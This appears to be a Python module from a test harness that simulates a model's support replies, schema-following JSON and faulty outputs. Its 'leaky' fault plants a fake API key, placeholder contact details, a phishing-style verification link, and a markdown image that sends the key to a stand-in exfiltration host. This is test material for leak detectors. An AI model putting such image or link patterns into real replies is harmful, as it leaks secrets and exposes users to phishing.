"""What the simulated model says: support-assistant replies, JSON that follows a requested schema,
and the bad output that output faults turn it into.

Everything is deterministic: a reply depends on (seed, model, messages) and, for structured
output, the schema; planted secrets and personal data depend on the seed alone, so a test or a
notebook can ask `planted_for(seed)` what to look for.
"""

from __future__ import annotations

import hashlib
import json
import random
import re
import string
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from .models import text_of

__all__ = ["Draft", "Planted", "SchemaError", "draft", "support_reply", "value_for", "planted_for",
           "apply_output_fault", "break_json", "violate", "to_json", "seeded", "resolve"]

# --- support replies ---------------------------------------------------------------------------
GREETINGS = ("Thanks for reaching out.", "Thank you for your message.", "Thanks for getting in touch.",
             "Happy to help with this.", "I can help with that.")
TOPICS: dict[str, tuple[str, ...]] = {
    "refund": ("Refunds go back to the original payment method within five to seven working days.",
               "You can ask for a refund within thirty days of delivery.",
               "Once we approve the refund, you will get a confirmation email.",
               "Items that arrive damaged are refunded in full, including the shipping cost."),
    "return": ("Most items can be returned within thirty days, as long as they are unused.",
               "Start a return from the Orders page and we will email you a prepaid label.",
               "Please pack the item in its original box if you still have it.",
               "We inspect returned items within three working days of receiving them."),
    "order": ("I can see your order in our system.",
              "You can follow every order from the Orders page of your account.",
              "Orders placed before noon usually leave our warehouse the same day.",
              "An order can still be changed until it has been packed."),
    "shipping": ("Standard delivery takes three to five working days.",
                 "Your tracking number is in the shipping confirmation email.",
                 "Shipping is free on orders over fifty dollars.",
                 "If a parcel has not moved for five days, we open an investigation with the carrier."),
    "password": ("You can reset your password from the sign-in page by choosing Forgot password.",
                 "The reset link in the email stays valid for one hour.",
                 "For your security, we will never ask for your password by email or chat.",
                 "If the reset email does not arrive, please check your spam folder."),
    "invoice": ("Every invoice is available as a PDF on the Billing page.",
                "Invoices are issued on the day your order ships.",
                "I can add your company name and tax number to a new invoice.",
                "If a charge looks wrong, our billing team will review it within two working days."),
    "account": ("You can update your email address and delivery details in your account settings.",
                "For your security, changes to your account are confirmed by email.",
                "We can close your account once any open orders are complete.",
                "Two-step sign-in keeps your account safe, and you can turn it on in settings."),
}
GENERIC = ("Could you share your order number so I can look into this?",
           "I have passed the details to the right team, and they will follow up by email.",
           "Our support team is available every day from eight in the morning to eight in the evening.",
           "You can find more answers in our help centre.")
CLOSINGS = ("Let me know if there is anything else I can do.", "I hope this helps.", "Have a great day.",
            "Feel free to reply if you have more questions.")
KEYWORDS = {  # a word of the user's last message -> the topic it raises
    **dict.fromkeys(("refund", "refunds", "refunded", "reimburse", "reimbursement"), "refund"),
    **dict.fromkeys(("return", "returns", "returned", "returning", "exchange"), "return"),
    **dict.fromkeys(("order", "orders", "ordered", "purchase", "purchased"), "order"),
    **dict.fromkeys(("shipping", "ship", "shipped", "delivery", "deliver", "delivered", "parcel", "package",
                     "tracking", "courier"), "shipping"),
    **dict.fromkeys(("password", "passwords", "login", "locked", "sign-in", "reset"), "password"),
    **dict.fromkeys(("invoice", "invoices", "receipt", "billing", "bill", "charge", "charged"), "invoice"),
    **dict.fromkeys(("account", "accounts", "profile", "username"), "account"),
}
MIN_WORDS, MAX_WORDS = 12, 60


def _rng(*parts: Any) -> random.Random:
    return random.Random(hashlib.sha256("|".join(map(str, parts)).encode()).digest())


seeded = _rng
"""A generator drawn from the given parts only, so every reply replays per (seed, request)."""


def _topics(messages: Sequence[Mapping[str, Any]]) -> list[str]:
    """The topics the last user message raises, in the order it raises them (at most two)."""
    last = next((m for m in reversed(messages) if m.get("role") == "user"), messages[-1] if messages else {})
    found: list[str] = []
    for word in re.findall(r"[\w-]+", text_of(last.get("content")).casefold()):
        topic = KEYWORDS.get(word)
        if topic and topic not in found:
            found.append(topic)
    return found[:2]


def _words(sentences: Sequence[str]) -> int:
    return sum(len(s.split()) for s in sentences)


def support_reply(rng: random.Random, messages: Sequence[Mapping[str, Any]]) -> str:
    """A greeting, two or three sentences on the topics of the last user message (or generic
    ones), a closing: 12 to 60 words of complete sentences."""
    topics = _topics(messages)
    pool = [s for topic in topics for s in TOPICS[topic]] if topics else list(GENERIC)
    body = rng.sample(pool, rng.randint(2, 3) if topics else 2)
    if topics and rng.random() < 0.3:
        body.append(rng.choice(GENERIC))
    opening = [rng.choice(GREETINGS)] if rng.random() < 0.8 else []
    closing = [rng.choice(CLOSINGS)] if rng.random() < 0.7 else []
    while _words(opening + body + closing) > MAX_WORDS and len(body) > 1:
        body.pop()
    spare = [s for s in [*pool, *GENERIC] if s not in body]
    while _words(opening + body + closing) < MIN_WORDS and spare:
        body.append(spare.pop(rng.randrange(len(spare))))
    return " ".join(opening + body + closing)


# --- JSON for a schema ---------------------------------------------------------------------------
class SchemaError(ValueError):
    """A schema the simulator cannot produce a value for (an unresolvable $ref, endless recursion)."""


NAMES = ("Maria Lopez", "Sam Okafor", "Priya Shah", "Jonas Berg", "Aiko Tanaka", "Liam Walsh")
CITIES = ("Lisbon", "Toronto", "Osaka", "Leeds", "Nairobi", "Porto")
COUNTRIES = ("Portugal", "Canada", "Japan", "Ireland", "Kenya", "Norway")
PHRASES = ("refund approved", "order shipped", "awaiting reply", "return label sent", "password reset",
           "invoice issued", "delivery delayed", "account updated", "case closed", "under review")
TITLES = ("Refund request", "Late delivery", "Password reset", "Billing question", "Damaged item")
STATUSES = ("open", "pending", "resolved", "escalated")
SENTENCE_KEYS = {"answer", "summary", "reply", "message", "description", "reason", "explanation", "text", "content",
                 "details", "note", "comment", "body", "response", "suggestion"}
ALL_SENTENCES = tuple(s for bank in TOPICS.values() for s in bank) + GENERIC
SOFT_DEPTH, HARD_DEPTH = 6, 40  # past SOFT_DEPTH only what is required; past HARD_DEPTH give up


def _resolve(schema: Any, root: Mapping[str, Any]) -> Any:
    """`schema` with its `$ref` (a chain of them, too) replaced by what it points to inside `root`."""
    for _ in range(HARD_DEPTH):
        ref = schema.get("$ref") if isinstance(schema, dict) else None
        if not isinstance(ref, str):
            return schema
        if not ref.startswith("#"):
            raise SchemaError(f"$ref {ref!r}: only references inside the schema (#/...) are supported")
        target: Any = root
        for part in filter(None, ref[1:].split("/")):
            part = part.replace("~1", "/").replace("~0", "~")
            if not isinstance(target, dict) or part not in target:
                raise SchemaError(f"$ref {ref!r} does not resolve")
            target = target[part]
        if not isinstance(target, dict):
            raise SchemaError(f"$ref {ref!r} does not point to a schema object")
        schema = {**target, **{k: v for k, v in schema.items() if k != "$ref"}}
        if "$ref" in target:
            schema["$ref"] = target["$ref"]  # a chain: resolve the next link
    raise SchemaError("the schema recurses without a way to stop ($ref points back to itself)")


resolve = _resolve
"""`schema` with its $ref chain followed inside `root`: what a property's schema really says."""


def _merge(parts: Sequence[Any], root: Mapping[str, Any]) -> dict[str, Any]:
    """allOf as one schema: properties and required joined, other keywords from the last part."""
    merged: dict[str, Any] = {}
    for part in (_resolve(p, root) for p in parts):
        if isinstance(part, dict):
            properties = {**merged.get("properties", {}), **part.get("properties", {})}
            required = [*merged.get("required", []), *part.get("required", [])]
            merged.update(part)
            if properties or required:
                merged.update(properties=properties, required=required)
    return merged


def _prefer_value(rng: random.Random, options: Sequence[Any], is_null: Any, deep: bool) -> Any:
    """One of `options`, a non-null one three times in four, so optional fields are mostly filled;
    deep in a recursive schema, null whenever allowed, so the value ends."""
    filled = [o for o in options if not is_null(o)]
    nulls = [o for o in options if is_null(o)]
    if filled and (not nulls or (not deep and rng.random() < 0.75)):
        return rng.choice(filled)
    return rng.choice(nulls or filled)


def _is_null_schema(schema: Any) -> bool:
    return isinstance(schema, dict) and schema.get("type") == "null"


def value_for(schema: Any, rng: random.Random, *, root: Mapping[str, Any] | None = None, key: str = "",
              depth: int = 0) -> Any:
    """A value valid against `schema` (the JSON Schema subset structured outputs use), with short
    readable strings; `key` is the property it is for, so a `city` gets a city. Not supported:
    `pattern`, `not`, `if`/`then`, `patternProperties`, fractional `multipleOf`."""
    root = root if root is not None else schema
    if depth > HARD_DEPTH:
        raise SchemaError("the schema recurses without a way to stop (every level requires the next)")
    if schema is True or schema == {}:
        return _string({}, rng, key)
    if not isinstance(schema, dict):
        raise SchemaError(f"expected a schema object, got {json.dumps(schema)[:60]}")
    schema = _resolve(schema, root)
    if "allOf" in schema:
        schema = _merge([{k: v for k, v in schema.items() if k != "allOf"}, *schema["allOf"]], root)
    if "const" in schema:
        return schema["const"]
    if "enum" in schema:
        return rng.choice(schema["enum"])
    for keyword in ("anyOf", "oneOf"):
        if schema.get(keyword):
            variants = [_resolve(v, root) for v in schema[keyword]]
            choice = _prefer_value(rng, variants, _is_null_schema, depth >= SOFT_DEPTH)
            return value_for(choice, rng, root=root, key=key, depth=depth + 1)
    kind = schema.get("type")
    if isinstance(kind, list):
        kind = _prefer_value(rng, kind, lambda k: k == "null", depth >= SOFT_DEPTH) if kind else None
    if kind is None:
        kind = "object" if "properties" in schema else "array" if "items" in schema else "string"
    if kind == "object":
        return _object(schema, rng, root, depth)
    if kind == "array":
        return _array(schema, rng, root, key, depth)
    if kind == "integer":
        return _integer(schema, rng)
    if kind == "number":
        return _number(schema, rng)
    if kind == "boolean":
        return rng.random() < 0.5
    if kind == "null":
        return None
    return _string(schema, rng, key)


def _object(schema: Mapping[str, Any], rng: random.Random, root: Mapping[str, Any], depth: int) -> dict[str, Any]:
    properties = schema.get("properties") or {}
    required = set(schema.get("required") or [])
    value: dict[str, Any] = {}
    for name, sub in properties.items():
        if name in required or (depth < SOFT_DEPTH and rng.random() < 0.5):
            value[name] = value_for(sub, rng, root=root, key=name, depth=depth + 1)
    for name in sorted(required - properties.keys()):
        value[name] = _string({}, rng, name)
    extra = schema.get("additionalProperties")
    if not properties and isinstance(extra, dict) and depth < SOFT_DEPTH:
        for name in ("primary", "secondary")[:rng.randint(1, 2)]:
            value[name] = value_for(extra, rng, root=root, key=name, depth=depth + 1)
    return value


def _array(schema: Mapping[str, Any], rng: random.Random, root: Mapping[str, Any], key: str, depth: int) -> list[Any]:
    prefix = schema.get("prefixItems") or []
    items = schema.get("items", {})
    high = schema.get("maxItems")
    if items is False:  # a tuple: the prefix and nothing after it
        high = len(prefix) if high is None else min(high, len(prefix))
    low = schema.get("minItems")
    if low is None:  # unbounded below: one item at least, or the whole tuple
        low = max(1, len(prefix)) if high is None else min(max(1, len(prefix)), high)
    high = max(low, high if high is not None else 3)
    deep = schema.get("minItems", len(prefix) if items is False else 0)  # past SOFT_DEPTH: no more than required
    count = deep if depth >= SOFT_DEPTH else rng.randint(low, high)
    value: list[Any] = []
    for index in range(count):
        sub = prefix[index] if index < len(prefix) else items
        for _ in range(10):  # uniqueItems: a few tries for a value not yet in the list
            item = value_for(sub, rng, root=root, key=key, depth=depth + 1)
            if not schema.get("uniqueItems") or item not in value:
                break
        else:
            if len(value) >= low:
                break
        value.append(item)
    return value


def _bounds(schema: Mapping[str, Any], step: float) -> tuple[float | None, float | None]:
    low, high = schema.get("minimum"), schema.get("maximum")
    if isinstance(schema.get("exclusiveMinimum"), (int, float)):
        low = max(x for x in (low, schema["exclusiveMinimum"] + step) if x is not None)
    if isinstance(schema.get("exclusiveMaximum"), (int, float)):
        high = min(x for x in (high, schema["exclusiveMaximum"] - step) if x is not None)
    return low, high


def _integer(schema: Mapping[str, Any], rng: random.Random) -> int:
    low, high = _bounds(schema, 1)
    low = int(-(-low // 1)) if low is not None else (1 if high is None or high >= 1 else int(high) - 100)
    high = int(high // 1) if high is not None else low + 99
    step = schema.get("multipleOf")
    if isinstance(step, int) and step > 0:
        first, last = -(-low // step), high // step
        return rng.randint(first, max(first, last)) * step
    return rng.randint(low, max(low, high))


def _number(schema: Mapping[str, Any], rng: random.Random) -> float | int:
    if isinstance(schema.get("multipleOf"), int):
        return _integer(schema, rng)
    low, high = _bounds(schema, 0.01)
    low = float(low) if low is not None else (0.0 if high is None or high >= 0 else float(high) - 100)
    high = float(high) if high is not None else low + 100
    value = round(rng.uniform(low, max(low, high)), 2)
    return value if low <= value <= high else (low + high) / 2


def _string(schema: Mapping[str, Any], rng: random.Random, key: str) -> str:
    text = _format(schema.get("format"), rng) or _by_key(key.casefold(), rng)
    low, high = schema.get("minLength", 0), schema.get("maxLength")
    while len(text) < low:
        text += " " + rng.choice(PHRASES)
    if high is not None and len(text) > high:
        text = text[:high].rstrip() if len(text[:high].rstrip()) >= low else text[:high]
    return text


def _format(name: Any, rng: random.Random) -> str | None:
    if name == "date-time":
        return f"2026-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}T{rng.randint(8, 17):02d}:30:00Z"
    if name == "date":
        return f"2026-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
    if name == "time":
        return f"{rng.randint(8, 17):02d}:{rng.choice((0, 15, 30, 45)):02d}:00"
    if name == "email":
        return _email(rng)
    if name in ("uri", "url"):
        return f"https://help.example.com/articles/{rng.randint(100, 999)}"
    if name == "uuid":
        hexes = "".join(rng.choice("0123456789abcdef") for _ in range(32))
        return f"{hexes[:8]}-{hexes[8:12]}-4{hexes[13:16]}-a{hexes[17:20]}-{hexes[20:]}"
    return None


def _email(rng: random.Random) -> str:
    first, last = rng.choice(NAMES).lower().split()
    return f"{first}.{last}@example.com"


def _by_key(key: str, rng: random.Random) -> str:
    """A phrase that suits the property's name."""
    words = set(re.split(r"[_\W]+", key))
    if words & SENTENCE_KEYS:
        return rng.choice(ALL_SENTENCES)
    if "email" in words:
        return _email(rng)
    if words & {"url", "link", "website"}:
        return f"https://help.example.com/articles/{rng.randint(100, 999)}"
    if "name" in words or key.endswith("name"):
        return rng.choice(NAMES)
    choices = {"street": ("12 Harbour Road", "4 Mill Lane", "27 Station Street"), "address": ("4 Mill Lane, Leeds",),
               "postcode": ("LS1 4AP", "M5V 2T6", "1100-148"), "zip": ("94105", "10001"), "city": CITIES,
               "country": COUNTRIES, "title": TITLES, "subject": TITLES, "status": STATUSES,
               "currency": ("EUR", "USD", "GBP"), "language": ("English", "Portuguese", "Japanese")}
    for word, bank in choices.items():
        if word in words:
            return rng.choice(bank)
    if "id" in words or key.endswith("id"):
        return f"ORD-{rng.randint(10000, 99999)}"
    if "date" in words:
        return _format("date", rng) or ""
    return rng.choice(PHRASES)


def to_json(value: Any) -> str:
    """Compact JSON, as models write structured output."""
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))


# --- one reply, before faults -----------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class Draft:
    """A reply before any output fault: its text and, for a JSON reply, the value and its schema."""

    text: str
    value: Any = None
    schema: Mapping[str, Any] | None = None


def draft(seed: int, model: str, messages: Sequence[Mapping[str, Any]],
          response_format: Mapping[str, Any] | None, text: str | None = None) -> Draft:
    """The reply to (seed, model, messages), in the requested format: support sentences (or `text`,
    e.g. the answer after tool results) for text, `{"answer": <them>}` for json_object, a value
    following the schema for json_schema."""
    prompt = json.dumps(messages, sort_keys=True)
    text = support_reply(_rng(seed, model, prompt), messages) if text is None else text
    kind = (response_format or {}).get("type", "text")
    if kind == "json_object":
        return Draft(to_json({"answer": text}), {"answer": text})
    if kind == "json_schema":
        schema = response_format["json_schema"]["schema"]  # type: ignore[index]
        value = value_for(schema, _rng(seed, model, prompt, json.dumps(schema, sort_keys=True)))
        return Draft(to_json(value), value, schema)
    return Draft(text)


# --- bad output ---------------------------------------------------------------------------------
def break_json(value: Any, style: str) -> str:
    """`value` as text that json.loads refuses, in the given style."""
    text = to_json(value)
    if style == "fence" or not isinstance(value, (dict, list)):
        pretty = json.dumps(value, ensure_ascii=False, indent=2)
        return f"Here is the JSON you asked for:\n```json\n{pretty}\n```"
    if style == "trailing_comma":
        return text[:-1] + "," + text[-1]
    return text[:-1]  # unclosed: the final bracket is missing


def _first_required(value: dict[str, Any], schema: Mapping[str, Any]) -> str | None:
    required = [name for name in schema.get("properties") or {} if name in (schema.get("required") or [])]
    return next((name for name in [*required, *value] if name in value), None)


def _wrong(value: Any) -> Any:
    """A value of another JSON type that pydantic will not coerce back."""
    if isinstance(value, str):
        return 42
    if isinstance(value, (bool, int, float)):
        return "several"
    return 42 if value is None else "see above"


def violate(value: Any, schema: Mapping[str, Any] | None, violation: str) -> Any:
    """`value` broken in one way at its top level; a non-object value just gets a wrong type."""
    root = _resolve(schema, schema) if schema else {}
    if not isinstance(value, dict):
        return _wrong(value)
    value = dict(value)
    field = _first_required(value, root)
    if violation == "extra_field":
        name = "internal_note"
        while name in value or name in (root.get("properties") or {}):
            name = "_" + name
        value[name] = "Escalated by the assistant."
    elif field is None:
        return [value]  # nothing to leave out or retype: the whole reply has the wrong type
    elif violation == "missing_field":
        del value[field]
    else:
        value[field] = _wrong(value[field])
    return value


@dataclass(frozen=True, slots=True)
class Planted:
    """The data a leaky reply plants, the same for every leaky reply of one seed."""

    key: str
    email: str
    phone: str
    image_url: str
    link_url: str

    def sentences(self, leak: Sequence[str]) -> list[str]:
        """Natural sentences carrying the planted data, in the order of LEAKS."""
        said = {"secret": f"For reference, the deployment key is {self.key}.",
                "personal": f"If anything is still unclear, write to {self.email} or call {self.phone}.",
                "image": f"![status]({self.image_url})",
                "link": f"You can also [confirm your details here]({self.link_url})."}
        return [said[kind] for kind in ("secret", "personal", "image", "link") if kind in leak]

    def values(self, leak: Sequence[str] = ("secret", "personal", "image", "link")) -> list[str]:
        """The strings a detector should find for these kinds (the image URL carries the key too)."""
        found = {"secret": [self.key], "personal": [self.email, self.phone], "image": [self.image_url],
                 "link": [self.link_url]}
        return [text for kind in ("secret", "personal", "image", "link") if kind in leak for text in found[kind]]


KEY_ALPHABET = string.ascii_letters + string.digits + "_-"
PHONES = ("+44 20 7946 0{:03d}", "+1 415-555-01{:02d}", "+44 161 496 0{:03d}", "+61 2 5550 {:04d}")
PEOPLE = ("dana.whitfield", "tomas.reyes", "yuki.mori", "ade.bello")


def planted_for(seed: int) -> Planted:
    """The planted values of a provider with `seed`: a current-format OpenAI project key
    (`sk-proj-`, 74 characters, `T3BlbkFJ`, 74 more), an email address at a reserved example
    domain, a phone number from a range kept for fiction, and outside URLs (`.example` hosts)."""
    rng = _rng("planted", seed)
    key = ("sk-proj-" + "".join(rng.choice(KEY_ALPHABET) for _ in range(74)) + "T3BlbkFJ"
           + "".join(rng.choice(KEY_ALPHABET) for _ in range(74)))
    template = rng.choice(PHONES)
    phone = template.format(rng.randint(0, 99 if "{:02d}" in template else 999 if "{:03d}" in template else 9999))
    email = f"{rng.choice(PEOPLE)}@example.org"
    host = rng.choice(("telemetry.exfil.example", "cdn.pixel-relay.example"))
    link = rng.choice(("https://account-check.example/verify", "https://secure-login.example/confirm"))
    return Planted(key, email, phone, f"https://{host}/pixel.png?d={key}", link)


def _plant(value: Any, addition: str) -> tuple[Any, bool]:
    """`value` with `addition` appended to its first string (depth first, in key order)."""
    if isinstance(value, str):
        return f"{value} {addition}", True
    if isinstance(value, (dict, list)):
        items = list(value.items()) if isinstance(value, dict) else list(enumerate(value))
        for index, (name, item) in enumerate(items):
            changed, done = _plant(item, addition)
            if done:
                items[index] = (name, changed)
                return (dict(items) if isinstance(value, dict) else [v for _, v in items]), True
    return value, False


def apply_output_fault(found: Draft, fault: Any, *, seed: int, prompt_key: str) -> tuple[str | None, str | None]:
    """(content, refusal) of the reply after output fault `fault` (truncation is left to the
    caller, which counts tokens). A text request becomes `{"answer": ...}` for JSON faults."""
    value = found.value if found.value is not None or found.schema is not None else {"answer": found.text}
    if fault.kind == "refusal":
        return None, fault.message
    if fault.kind == "invalid_json":
        style = fault.style or _rng(seed, prompt_key, "invalid_json").choice(("fence", "trailing_comma", "unclosed"))
        return break_json(value, style), None
    if fault.kind == "schema_violation":
        return to_json(violate(value, found.schema, fault.violation)), None
    if fault.kind == "leaky":
        addition = " ".join(planted_for(seed).sentences(fault.leak))
        if found.value is None and found.schema is None:
            return f"{found.text} {addition}", None
        return to_json(_plant(found.value, addition)[0]), None
    return found.text, None
